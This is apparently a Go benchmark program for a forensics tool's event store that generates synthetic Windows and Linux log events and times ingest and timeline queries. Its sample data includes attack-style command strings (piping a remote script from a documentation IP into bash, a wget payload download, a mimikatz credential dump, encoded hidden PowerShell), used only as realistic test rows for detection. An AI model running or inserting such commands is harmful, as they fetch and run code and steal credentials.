// Command eventbench measures the SQLite event store (sqldb.EventService): it ingests generated
// timeline events modelled on real rows (Windows Security and System evtx, syslog, auth.log,
// bash_history) into a fresh database, reports events/s next to a baseline (the same rows in a bare
// table without indexes or full-text index), then runs the typical timeline queries of issue #8
// several times each and reports p50 and p95. bench/events.sh runs it.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"log/slog"
	"math/rand/v2"
	"os"
	"path/filepath"
	"runtime/pprof"
	"slices"
	"strings"
	"time"

	"github.com/quarry-dfir/quarry"
	"github.com/quarry-dfir/quarry/sqldb"
)

func main() {
	n := flag.Int("n", 5_000_000, "events to ingest")
	dir := flag.String("dir", os.TempDir(), "folder for the database files (replaced)")
	batch := flag.Int("batch", 5000, "events per InsertEvents call")
	runs := flag.Int("runs", 20, "runs of each query")
	baseline := flag.Bool("baseline", true, "also insert the rows into a bare table")
	reuse := flag.Bool("reuse", false, "query an existing database from an earlier run instead of ingesting")
	cpuprofile := flag.String("cpuprofile", "", "write a CPU profile of the ingest to this file")
	params := flag.String("params", "", "extra SQLite DSN parameters, such as _pragma=cache_size(-131072)")
	noQueries := flag.Bool("noqueries", false, "ingest only")
	exec := flag.String("exec", "", "SQL to run on the database before ingesting (experiments)")
	indexer := flag.Bool("indexer", true, "run the full-text indexer during the ingest, as the server does (else after it)")
	pg := flag.String("postgres", "", "measure PostgreSQL at this URL instead of SQLite, in a schema eventbench that is replaced")
	flag.StringVar(&only, "only", "", "run only the queries whose name contains this")
	flag.Parse()
	ctx := context.Background()
	path := filepath.Join(*dir, "eventbench.db")
	dsn := path
	if *pg != "" {
		dsn = pgSchema(ctx, *pg, !*reuse)
		*baseline = false
	} else if !*reuse {
		for _, suffix := range []string{"", "-wal", "-shm", "-search", "-search-wal", "-search-shm"} {
			os.Remove(path + suffix)
		}
	}
	if *params != "" {
		dsn += "?" + *params
	}
	db, err := sqldb.OpenAndMigrate(ctx, dsn)
	if err != nil {
		log.Fatal(err)
	}
	defer db.Close()
	if *exec != "" {
		if _, err := db.SQL().ExecContext(ctx, *exec); err != nil {
			log.Fatal(err)
		}
	}
	s := sqldb.NewEventService(db)
	projectID := int64(1)
	g := newGen(*n)
	if !*reuse {
		p := &quarry.Project{Name: "bench"}
		if err := sqldb.NewProjectService(db).CreateProject(ctx, p); err != nil {
			log.Fatal(err)
		}
		projectID = p.ID
		if *baseline {
			bare(ctx, *dir, *n, *batch, projectID)
		}
		if *cpuprofile != "" {
			f, err := os.Create(*cpuprofile)
			if err != nil {
				log.Fatal(err)
			}
			pprof.StartCPUProfile(f)
		}
		// The server's full-text indexer runs beside the inserts, on its own file (sqldb/search.go).
		ictx, stopIndexer := context.WithCancel(ctx)
		indexed := make(chan struct{})
		runIndexer := func() {
			defer close(indexed)
			s.RunSearchIndexer(ictx, slog.Default())
		}
		if *indexer {
			go runIndexer()
		}
		start := time.Now()
		for done := 0; done < *n; {
			k := min(*batch, *n-done)
			events := make([]*quarry.Event, k)
			for i := range events {
				events[i] = g.event(projectID, done+i)
			}
			if err := s.InsertEvents(ctx, events); err != nil {
				log.Fatal(err)
			}
			done += k
			if done%(500_000) == 0 || done == *n {
				el := time.Since(start)
				fmt.Printf("ingest: %d events in %.1fs, %.0f events/s\n", done, el.Seconds(), float64(done)/el.Seconds())
			}
		}
		ingested := time.Since(start)
		backlog, err := s.SearchBacklog(ctx)
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("ingest done: %d events in %.1fs, %.0f events/s; full-text index backlog %d events\n", *n, ingested.Seconds(), float64(*n)/ingested.Seconds(), backlog)
		if !*indexer {
			go runIndexer()
		}
		for backlog > 0 {
			time.Sleep(200 * time.Millisecond)
			if backlog, err = s.SearchBacklog(ctx); err != nil {
				log.Fatal(err)
			}
		}
		stopIndexer()
		<-indexed
		all := time.Since(start)
		fmt.Printf("full-text index caught up: %.1fs after the first insert, %.0f events/s from insert to indexed\n", all.Seconds(), float64(*n)/all.Seconds())
		pprof.StopCPUProfile()
		for _, f := range []string{path, path + "-search"} {
			if fi, err := os.Stat(f); err == nil {
				fmt.Printf("file %s: %.0f MB\n", filepath.Base(f), float64(fi.Size())/1e6)
			}
		}
		analyze := []string{"PRAGMA main.wal_checkpoint(TRUNCATE)", "ANALYZE main"}
		if db.Dialect() == sqldb.DialectPostgres {
			analyze = []string{"VACUUM ANALYZE events"}
		}
		for _, q := range analyze {
			if _, err := db.SQL().ExecContext(ctx, q); err != nil {
				log.Fatal(err)
			}
		}
	}
	if !*noQueries {
		queries(ctx, s, projectID, g, *runs)
	}
}

// pgSchema returns the URL of the schema eventbench of the PostgreSQL database at url, made
// anew when fresh.
func pgSchema(ctx context.Context, url string, fresh bool) string {
	if fresh {
		admin, err := sqldb.Open(ctx, url)
		if err != nil {
			log.Fatal(err)
		}
		if _, err := admin.SQL().ExecContext(ctx, "DROP SCHEMA IF EXISTS eventbench CASCADE; CREATE SCHEMA eventbench"); err != nil {
			log.Fatal(err)
		}
		admin.Close()
	}
	sep := "?"
	if strings.Contains(url, "?") {
		sep = "&"
	}
	return url + sep + "search_path=eventbench"
}

// bare inserts the same rows into a table without indexes or full-text index: the floor that
// the store's cost is measured against.
func bare(ctx context.Context, dir string, n, batch int, projectID int64) {
	path := filepath.Join(dir, "eventbench-bare.db")
	for _, suffix := range []string{"", "-wal", "-shm"} {
		os.Remove(path + suffix)
	}
	db, err := sqldb.Open(ctx, path)
	if err != nil {
		log.Fatal(err)
	}
	defer func() {
		db.Close()
		for _, suffix := range []string{"", "-wal", "-shm", "-search", "-search-wal", "-search-shm"} {
			os.Remove(path + suffix)
		}
	}()
	sqlDB := db.SQL()
	if _, err := sqlDB.ExecContext(ctx, `CREATE TABLE events (id INTEGER PRIMARY KEY, project_id INTEGER, evidence_id INTEGER, ts INTEGER,
		timestamp_desc TEXT, source TEXT, host TEXT, username TEXT, message TEXT, path TEXT, fields TEXT, severity TEXT)`); err != nil {
		log.Fatal(err)
	}
	g := newGen(n)
	const per = 200
	one := "(?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)"
	stmtText := "INSERT INTO events (project_id, evidence_id, ts, timestamp_desc, source, host, username, message, path, fields, severity) VALUES " +
		strings.TrimSuffix(strings.Repeat(one+", ", per), ", ")
	start := time.Now()
	for done := 0; done < n; {
		k := min(batch, n-done)
		tx, err := sqlDB.BeginTx(ctx, nil)
		if err != nil {
			log.Fatal(err)
		}
		st, err := tx.PrepareContext(ctx, stmtText)
		if err != nil {
			log.Fatal(err)
		}
		args := make([]any, 0, per*11)
		for i := 0; i < k; i++ {
			ev := g.event(projectID, done+i)
			fields := fmt.Sprint(ev.Fields) // the bare table stores text; the encoding is not what is measured
			args = append(args, ev.ProjectID, ev.EvidenceID, ev.Timestamp.UnixMicro(), ev.TimestampDesc, ev.Source, ev.Host, ev.User, ev.Message, ev.Path, fields, ev.Severity)
			if len(args) == per*11 {
				if _, err := st.ExecContext(ctx, args...); err != nil {
					log.Fatal(err)
				}
				args = args[:0]
			}
		}
		if len(args) > 0 {
			m := len(args) / 11
			if _, err := tx.ExecContext(ctx, "INSERT INTO events (project_id, evidence_id, ts, timestamp_desc, source, host, username, message, path, fields, severity) VALUES "+
				strings.TrimSuffix(strings.Repeat(one+", ", m), ", "), args...); err != nil {
				log.Fatal(err)
			}
		}
		st.Close()
		if err := tx.Commit(); err != nil {
			log.Fatal(err)
		}
		done += k
	}
	el := time.Since(start)
	fmt.Printf("baseline (bare table, no indexes, no FTS, same generator): %d events in %.1fs, %.0f events/s\n", n, el.Seconds(), float64(n)/el.Seconds())
}

var only string

// queries runs the typical queries and prints p50 and p95 of each.
func queries(ctx context.Context, s *sqldb.EventService, projectID int64, g *gen, runs int) {
	day := g.start.Add(g.span / 2).Truncate(24 * time.Hour)
	deep := deepCursor(ctx, s, projectID)
	type bench struct {
		name string
		f    quarry.EventFilter
	}
	list := []bench{
		{"free text word (powershell)", quarry.EventFilter{Query: "powershell"}},
		{"free text rare word (mimikatz)", quarry.EventFilter{Query: "mimikatz"}},
		{"field:value (EventID:4625)", quarry.EventFilter{Query: "EventID:4625"}},
		{"host filter + 1 day", quarry.EventFilter{Hosts: []string{"ws-017"}, From: day, To: day.Add(24 * time.Hour)}},
		{"host query + time range", quarry.EventFilter{Query: "host:ws-017 AND timestamp:[" + day.Format("2006-01-02") + " TO " + day.Format("2006-01-02") + "]"}},
		{"severity key events (alarm)", quarry.EventFilter{Severities: []string{quarry.SeverityAlarm}}},
		{"severity + desc", quarry.EventFilter{Severities: []string{quarry.SeverityAlarm, quarry.SeveritySuspicious}, Desc: true}},
		{"NOT (failed NOT user:root)", quarry.EventFilter{Query: "failed NOT user:root"}},
		{"NOT alone (NOT source:evtx)", quarry.EventFilter{Query: "NOT source:evtx"}},
		{"wildcard (CommandLine:*whoami*)", quarry.EventFilter{Query: "CommandLine:*whoami*"}},
		{"wildcard (sshd*)", quarry.EventFilter{Query: "sshd*"}},
		{"page deep via cursor (100k in)", quarry.EventFilter{Cursor: deep}},
		{"everything, first page", quarry.EventFilter{}},
	}
	// Each query four ways: FindEvents with the Total counted up to 10,000 (what the API and the
	// timeline ask by default), FindEvents with the exact Total (exact_total=true), the page
	// alone (FindEventsPage) and the Total alone (CountEvents).
	fmt.Printf("\n%-34s %-9s %9s %9s %9s %10s %5s\n", "query", "call", "p50 ms", "p95 ms", "max ms", "total", "runs")
	for _, b := range list {
		if !strings.Contains(b.name, only) {
			continue
		}
		b.f.ProjectID = projectID
		for _, call := range []string{"Find10k", "Find", "Page", "Count"} {
			var times []time.Duration
			var total int64
			began := time.Now()
			for range runs {
				if len(times) >= 3 && time.Since(began) > 40*time.Second {
					break // a slow query: fewer runs, said in the runs column
				}
				start := time.Now()
				var err error
				switch call {
				case "Find10k":
					capped := b.f
					capped.TotalUpTo = 10000
					var page *quarry.EventPage
					page, err = s.FindEvents(ctx, capped)
					if err == nil {
						total = page.Total
					}
				case "Find":
					var page *quarry.EventPage
					page, err = s.FindEvents(ctx, b.f)
					if err == nil {
						total = page.Total
					}
				case "Page":
					_, err = s.FindEventsPage(ctx, b.f)
				case "Count":
					total, err = s.CountEvents(ctx, b.f)
				}
				if err != nil {
					log.Fatalf("%s: %v", b.name, err)
				}
				times = append(times, time.Since(start))
			}
			slices.Sort(times)
			p := func(q float64) float64 {
				return float64(times[min(len(times)-1, int(q*float64(len(times))))].Microseconds()) / 1000
			}
			fmt.Printf("%-34s %-9s %9.1f %9.1f %9.1f %10d %5d\n", b.name, call, p(0.5), p(0.95), p(1), total, len(times))
		}
	}
	// The other reads the timeline UI makes.
	for _, b := range []struct {
		name string
		fn   func() error
	}{
		{"histogram (all, auto step)", func() error { _, _, err := s.Histogram(ctx, quarry.EventFilter{ProjectID: projectID}, 0); return err }},
		{"histogram (powershell)", func() error {
			_, _, err := s.Histogram(ctx, quarry.EventFilter{ProjectID: projectID, Query: "powershell"}, 0)
			return err
		}},
		{"facet host (all)", func() error { _, err := s.Facet(ctx, quarry.EventFilter{ProjectID: projectID}, "host", 10); return err }},
		{"facet EventID (evtx)", func() error {
			_, err := s.Facet(ctx, quarry.EventFilter{ProjectID: projectID, Sources: []string{"evtx"}}, "EventID", 10)
			return err
		}},
	} {
		var times []time.Duration
		for range max(runs/4, 3) {
			start := time.Now()
			if err := b.fn(); err != nil {
				log.Fatalf("%s: %v", b.name, err)
			}
			times = append(times, time.Since(start))
		}
		slices.Sort(times)
		fmt.Printf("%-34s %10.1f %10.1f %10.1f\n", b.name, float64(times[len(times)/2].Microseconds())/1000,
			float64(times[len(times)-1].Microseconds())/1000, float64(times[len(times)-1].Microseconds())/1000)
	}
}

// deepCursor pages 100 pages of 1000 events into the timeline and returns the cursor there.
func deepCursor(ctx context.Context, s *sqldb.EventService, projectID int64) string {
	cursor := ""
	for range 100 {
		page, err := s.FindEvents(ctx, quarry.EventFilter{ProjectID: projectID, Cursor: cursor, Limit: 1000})
		if err != nil {
			log.Fatal(err)
		}
		if page.Next == "" {
			break
		}
		cursor = page.Next
	}
	return cursor
}

// gen makes events like the timeline of a few dozen Windows and Linux hosts over 30 days.
type gen struct {
	start time.Time
	span  time.Duration
	n     int
}

func newGen(n int) *gen {
	return &gen{start: time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC), span: 30 * 24 * time.Hour, n: n}
}

var (
	users    = []string{"SYSTEM", "alice", "bob", "carol", "svc_backup", "Administrator", "root", "dave", "www-data", "LOCAL SERVICE"}
	procs    = []string{`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Windows\explorer.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\rundll32.exe`, `C:\Users\Public\mimikatz.exe`}
	cmdlines = []string{"cmd.exe /c whoami", "powershell.exe -nop -w hidden -enc SQBFAFgA", "svchost.exe -k netsvcs -p", "chrome.exe --type=renderer", "rundll32.exe shell32.dll,Control_RunDLL", "mimikatz.exe privilege::debug sekurlsa::logonpasswords", "net user /domain", "ipconfig /all"}
	bash     = []string{"sudo systemctl restart nginx", "ls -la /var/www", "cat /etc/passwd", "curl -s http://203.0.113.7/x.sh | bash", "vim /etc/ssh/sshd_config", "tail -f /var/log/syslog", "wget http://198.51.100.3/payload", "history -c"}
)

func (g *gen) event(projectID int64, i int) *quarry.Event {
	r := rand.New(rand.NewPCG(uint64(i), 42))
	ts := g.start.Add(time.Duration(float64(g.span) * float64(i) / float64(g.n))).Add(time.Duration(r.IntN(1000)) * time.Microsecond)
	hostN := r.IntN(40)
	ev := &quarry.Event{ProjectID: projectID, EvidenceID: int64(1 + hostN), Timestamp: ts, TimestampDesc: "Event Time"}
	user := users[r.IntN(len(users))]
	ip := fmt.Sprintf("10.%d.%d.%d", r.IntN(4), r.IntN(256), 1+r.IntN(254))
	switch k := r.IntN(100); {
	case hostN < 25 && k < 70: // Windows Security log
		ev.Source, ev.Host, ev.User = "evtx", fmt.Sprintf("ws-%03d", hostN), user
		ev.Path = `C/Windows/System32/winevt/Logs/Security.evtx`
		switch k % 5 {
		case 0, 1:
			ev.Message = fmt.Sprintf("An account was successfully logged on. Account Name: %s Logon Type: %d Source Network Address: %s", user, 2+r.IntN(9), ip)
			ev.Fields = map[string]any{"EventID": int64(4624), "Channel": "Security", "LogonType": int64(2 + r.IntN(9)), "IpAddress": ip, "TargetUserName": user}
		case 2:
			ev.Message = fmt.Sprintf("An account failed to log on. Account Name: %s Failure Reason: Unknown user name or bad password. Source Network Address: %s", user, ip)
			ev.Fields = map[string]any{"EventID": int64(4625), "Channel": "Security", "Status": "0xc000006d", "IpAddress": ip, "TargetUserName": user}
			if r.IntN(10) == 0 {
				ev.Severity = quarry.SeveritySuspicious
			}
		default:
			p, c := procs[r.IntN(len(procs))], cmdlines[r.IntN(len(cmdlines))]
			ev.Message = fmt.Sprintf("A new process has been created. New Process Name: %s Process Command Line: %s Creator: %s", p, c, user)
			ev.Fields = map[string]any{"EventID": int64(4688), "Channel": "Security", "NewProcessName": p, "CommandLine": c,
				"ProcessId": uint64(1000 + r.IntN(60000)), "SubjectUserName": user}
			if strings.Contains(c, "mimikatz") || strings.Contains(c, "-enc") {
				ev.Severity = quarry.SeverityAlarm
				ev.Detections = []quarry.Detection{{RuleID: "proc_creation_win_susp", Title: "Suspicious process", Level: "high", Kind: "sigma", Tags: []string{"attack.t1059"}}}
			}
		}
	case hostN < 25: // Windows System log
		ev.Source, ev.Host, ev.User = "evtx", fmt.Sprintf("ws-%03d", hostN), "SYSTEM"
		ev.Path = `C/Windows/System32/winevt/Logs/System.evtx`
		svc := []string{"Windows Update", "Print Spooler", "BITS", "WinRM"}[r.IntN(4)]
		ev.Message = fmt.Sprintf("The %s service entered the %s state.", svc, []string{"running", "stopped"}[r.IntN(2)])
		ev.Fields = map[string]any{"EventID": int64(7036), "Channel": "System", "param1": svc}
	case k < 40: // auth.log
		ev.Source, ev.Host, ev.Path = "auth.log", fmt.Sprintf("srv-%03d", hostN), "/var/log/auth.log"
		pid := 1000 + r.IntN(60000)
		if r.IntN(3) == 0 {
			ev.User = []string{"root", "admin", "oracle", "test"}[r.IntN(4)]
			ev.Message = fmt.Sprintf("sshd[%d]: Failed password for %s from %s port %d ssh2", pid, ev.User, ip, 1024+r.IntN(60000))
			ev.Fields = map[string]any{"program": "sshd", "pid": int64(pid), "src_ip": ip, "outcome": "failure"}
		} else {
			ev.User = user
			ev.Message = fmt.Sprintf("sshd[%d]: Accepted publickey for %s from %s port %d ssh2", pid, user, ip, 1024+r.IntN(60000))
			ev.Fields = map[string]any{"program": "sshd", "pid": int64(pid), "src_ip": ip, "outcome": "success"}
		}
	case k < 70: // syslog
		ev.Source, ev.Host, ev.Path = "syslog", fmt.Sprintf("srv-%03d", hostN), "/var/log/syslog"
		prog := []string{"systemd", "cron", "kernel", "nginx", "dockerd"}[r.IntN(5)]
		ev.Message = fmt.Sprintf("%s[%d]: %s", prog, 100+r.IntN(30000), []string{"Started Session 42 of user root.", "(root) CMD (run-parts /etc/cron.hourly)",
			"eth0: link up", "upstream timed out (110: Connection timed out)", "container 3f2a9 exited with code 0"}[r.IntN(5)])
		ev.Fields = map[string]any{"program": prog, "facility": "daemon"}
	default: // bash_history
		ev.Source, ev.Host, ev.Path = "bash_history", fmt.Sprintf("srv-%03d", hostN), "/root/.bash_history"
		ev.User, ev.TimestampDesc = "root", "Command Time"
		ev.Message = bash[r.IntN(len(bash))]
		ev.Fields = map[string]any{"command": ev.Message}
		if strings.Contains(ev.Message, "| bash") || strings.Contains(ev.Message, "history -c") {
			ev.Severity = quarry.SeveritySuspicious
		}
	}
	return ev
}
